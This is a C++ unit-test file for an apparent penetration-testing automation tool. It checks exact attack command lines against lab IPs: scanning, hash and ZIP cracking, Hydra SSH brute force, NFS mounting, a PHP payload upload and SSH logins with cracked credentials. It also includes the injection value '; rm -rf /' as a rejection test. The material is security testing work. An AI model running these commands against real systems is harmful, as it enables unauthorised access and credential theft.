#include <fstream>

#include <gtest/gtest.h>

#include "pentestxx/common/error.hpp"
#include "pentestxx/common/strings.hpp"
#include "pentestxx/toolio/backend.hpp"
#include "pentestxx/toolio/builders.hpp"
#include "pentestxx/toolio/wordlist.hpp"
#include "support/scenario.hpp"

using namespace pentestxx;
using namespace pentestxx::toolio;

namespace {

const Ipv4 kVm1 = Ipv4::parse("192.168.1.7");
const Ipv4 kVm2 = Ipv4::parse("192.168.1.10");

}  // namespace

TEST(Builders, Nmap) {
  EXPECT_EQ(build_ping_scan(netcalc::parse_cidr("192.168.1.0/24")).display_line(), "nmap -sn -T4 192.168.1.0/24");
  auto full = build_full_scan("192.168.1.7");
  EXPECT_EQ(full.display_line(), "nmap -p- -A -T4 192.168.1.7");
  EXPECT_FALSE(full.gate_required);
  EXPECT_THROW(build_full_scan("192.168.1.7; rm -rf /"), Error);
}

TEST(Builders, Gobuster) {
  auto c = build_dir_scan("http://192.168.1.7", "/usr/share/wordlists/dirb/common.txt");
  EXPECT_EQ(c.program, "gobuster");
  EXPECT_EQ(c.args, (std::vector<std::string>{"dir", "-u", "http://192.168.1.7", "-w", "/usr/share/wordlists/dirb/common.txt"}));
  EXPECT_THROW(build_dir_scan("ftp://192.168.1.7", "w"), Error);
}

TEST(Builders, Hashcat) {
  auto c = build_hash_crack("CD73502828457D15655BBD7A63FB0BC8", "/w/rockyou.txt");
  EXPECT_EQ(c.display_line(), "hashcat -m 0 -a 0 cd73502828457d15655bbd7a63fb0bc8 /w/rockyou.txt");
  EXPECT_TRUE(c.gate_required);
  EXPECT_THROW(build_hash_crack("cd73", "w"), Error);
  EXPECT_THROW(build_hash_crack("zz73502828457d15655bbd7a63fb0bc8", "w"), Error);
  EXPECT_THROW(normalize_md5("$2y$10$abcdefghijklmnopqrstuv"), Error);
}

TEST(Builders, ZipPipeline) {
  auto dir = pentestxx::testing::scratch_dir("builders_zip");
  const auto zip = dir / "save.zip";
  std::ofstream(zip) << "PK";
  auto p = build_zip_crack_pipeline(zip, "/w/rockyou.txt");
  ASSERT_EQ(p.stages.size(), 2u);
  EXPECT_EQ(p.hash_file, dir / "save.zip.hash");
  EXPECT_EQ(p.stages[0].display_line(), "zip2john " + zip.string());
  EXPECT_FALSE(p.stages[0].gate_required);
  EXPECT_EQ(p.stages[1].display_line(), "john --wordlist=/w/rockyou.txt " + p.hash_file.string());
  EXPECT_TRUE(p.stages[1].gate_required);
  EXPECT_THROW(build_zip_crack_pipeline(dir / "missing.zip", "w"), Error);
}

TEST(Builders, Hydra) {
  auto c = build_hydra("jeanpaul", "/w/rockyou.txt", kVm2);
  EXPECT_EQ(c.display_line(), "hydra -l jeanpaul -P /w/rockyou.txt ssh://192.168.1.10 -t 4 -f -V");
  EXPECT_TRUE(c.gate_required);
  auto quiet = build_hydra("root", "w", kVm2, 2222, {8, false, false});
  EXPECT_EQ(quiet.display_line(), "hydra -l root -P w ssh://192.168.1.10:2222 -t 8");
  EXPECT_THROW(build_hydra("root", "w", kVm2, 0), Error);
}

TEST(Builders, Nfs) {
  EXPECT_EQ(build_export_list(kVm2).display_line(), "showmount -e 192.168.1.10");
  auto mp = nfs_mount_point("/ws/mnt", "/srv/nfs");
  EXPECT_EQ(mp, std::filesystem::path("/ws/mnt/nfs_mount__srv_nfs"));
  EXPECT_EQ(build_nfs_mount(kVm2, "/srv/nfs", mp).display_line(),
            "mount -t nfs -o ro,nolock 192.168.1.10:/srv/nfs /ws/mnt/nfs_mount__srv_nfs");
  EXPECT_EQ(build_list_files("/m").display_line(), "find /m -type f");
  EXPECT_EQ(build_unzip("/l/save.zip", "java101", "/l/save").display_line(), "unzip -P java101 -o /l/save.zip -d /l/save");
  EXPECT_EQ(build_unzip("/l/a.zip", "", "/l/a").display_line(), "unzip -o /l/a.zip -d /l/a");
}

TEST(Builders, Curl) {
  EXPECT_EQ(build_ftp_list(kVm1, "anonymous", "anonymous").display_line(),
            "curl -s -l --user anonymous:anonymous ftp://192.168.1.7/");
  EXPECT_EQ(build_ftp_fetch(kVm1, "note.txt", "anonymous", "anonymous").display_line(),
            "curl -s --user anonymous:anonymous ftp://192.168.1.7/note.txt");
  HttpOptions jar{std::filesystem::path("/ws/cookies/j.jar"), 5};
  EXPECT_EQ(build_http_get("http://192.168.1.7/academy/", jar).display_line(),
            "curl -s -m 5 -c /ws/cookies/j.jar -b /ws/cookies/j.jar http://192.168.1.7/academy/");
  auto post = build_http_post_form("http://192.168.1.7/academy/index.php", "regno=10201321&password=student", jar);
  EXPECT_TRUE(post.gate_required);
  EXPECT_EQ(post.args.back(), "http://192.168.1.7/academy/index.php");
  auto up = build_http_upload("http://192.168.1.7/academy/my-profile.php", "photoimg", "/ws/payloads/photo.php", jar);
  EXPECT_TRUE(up.gate_required);
  EXPECT_NE(up.display_line().find("-F photoimg=@/ws/payloads/photo.php"), std::string::npos);
  EXPECT_THROW(build_http_get("192.168.1.7/"), Error);
}

TEST(Builders, Ssh) {
  auto key = build_ssh_key_login("/l/id_rsa", "jeanpaul", kVm2, 22, "I_love_java");
  EXPECT_EQ(key.display_line(),
            "sshpass -P passphrase -p I_love_java ssh -i /l/id_rsa -o StrictHostKeyChecking=no jeanpaul@192.168.1.10 id");
  EXPECT_TRUE(key.gate_required);
  auto nopass = build_ssh_key_login("/l/id_rsa", "root", kVm2, 2222, "");
  EXPECT_EQ(nopass.display_line(),
            "ssh -i /l/id_rsa -p 2222 -o BatchMode=yes -o StrictHostKeyChecking=no root@192.168.1.10 id");
  auto pw = build_ssh_password_login("10201321", "student", kVm1, 22);
  EXPECT_EQ(pw.display_line(),
            "sshpass -p student ssh -o StrictHostKeyChecking=no -o PubkeyAuthentication=no 10201321@192.168.1.7 id");
}

TEST(Builders, DisplayLineSplitsBackIntoArgv) {
  const std::vector<CommandSpec> cmds = {
      build_hydra("jeanpaul", "/w/rockyou.txt", kVm2),
      build_ssh_key_login("/l/id_rsa", "jeanpaul", kVm2, 22, "I_love_java"),
      build_http_post_form("http://h/x", "a=1&b=2", {}),
  };
  for (const auto& c : cmds) {
    auto tokens = split_ws(c.display_line());
    ASSERT_FALSE(tokens.empty());
    EXPECT_EQ(tokens.front(), c.program);
    EXPECT_EQ(std::vector<std::string>(tokens.begin() + 1, tokens.end()), c.args);
  }
}

TEST(Builders, MakeCommandRejectsWhitespace) {
  EXPECT_THROW(make_command("", {}, false), Error);
  EXPECT_THROW(make_command("ls", {"a b"}, false), Error);
  EXPECT_THROW(make_command("ls", {""}, false), Error);
  EXPECT_THROW(build_ssh_password_login("root", "two words", kVm1, 22), Error);
}

TEST(Builders, UrlHelpers) {
  EXPECT_EQ(join_url("http://h/", "/a"), "http://h/a");
  EXPECT_EQ(join_url("http://h", "a/b"), "http://h/a/b");
  EXPECT_EQ(url_encode("a b&c=d/é"), "a%20b%26c%3Dd%2F%C3%A9");
  EXPECT_TRUE(is_http_url("https://x"));
  EXPECT_FALSE(is_http_url("http://"));
}

TEST(Wordlist, CountsNonEmptyLines) {
  auto dir = pentestxx::testing::scratch_dir("wordlist");
  std::ofstream(dir / "w.txt") << "a\n\nb\r\nc";
  EXPECT_EQ(count_wordlist_entries(dir / "w.txt"), 3);
  EXPECT_EQ(read_wordlist(dir / "w.txt"), (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_THROW(count_wordlist_entries(dir / "none.txt"), Error);
}

TEST(LiveBackend, RunsRealProgramsAndReportsMissingOnes) {
  ASSERT_TRUE(find_program("sh").has_value());
  EXPECT_FALSE(find_program("pentestxx-no-such-program").has_value());
  auto backend = make_live_backend();
  std::vector<std::string> seen;
  auto out = execute(make_command("echo", {"hello"}, false), *backend,
                     [&](const CommandSpec& c) { seen.push_back(c.display_line()); });
  EXPECT_EQ(out.exit_status, 0);
  EXPECT_EQ(out.stdout_text, "hello\n");
  EXPECT_EQ(seen, std::vector<std::string>{"echo hello"});
  auto fail = backend->run(make_command("false", {}, false));
  EXPECT_NE(fail.exit_status, 0);
  try {
    backend->run(make_command("pentestxx-no-such-program", {}, false));
    FAIL() << "expected program_missing";
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), ErrorCode::program_missing);
  }
}
